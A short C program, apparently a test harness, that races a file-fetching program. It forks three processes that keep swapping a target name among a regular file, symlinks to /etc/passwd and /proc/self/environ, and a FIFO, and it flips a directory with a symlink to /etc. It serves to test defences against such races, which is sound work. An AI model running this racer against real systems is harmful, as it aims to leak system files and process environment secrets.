/* Three processes swap what lies under the name that will be fetched: file, link, folder, pipe. */
#include "attack.h"
int main(void) {
    for (int n = 0; n < 3; n++)
        if (fork() == 0)
            for (int turn = n;; turn++) {
                char name[16];
                snprintf(name, sizeof name, "new-%d", n);
                int fd;
                if (turn % 4 == 0 && (fd = open(name, O_CREAT | O_WRONLY, 0600)) >= 0) {
                    if (write(fd, "plain", 5) < 0) _exit(1);
                    close(fd);
                }
                if (turn % 4 == 1 && symlink("/etc/passwd", name)) unlink(name);
                if (turn % 4 == 2 && symlink("/proc/self/environ", name)) unlink(name);
                if (turn % 4 == 3 && mkfifo(name, 0600)) unlink(name);
                if (rename(name, "swapped")) unlink(name);
                if (rename("a", "b")) rename("b", "a");
            }
    mkdir("a", 0700), symlink("/etc", "b");
    usleep(200000);
    return done();
}
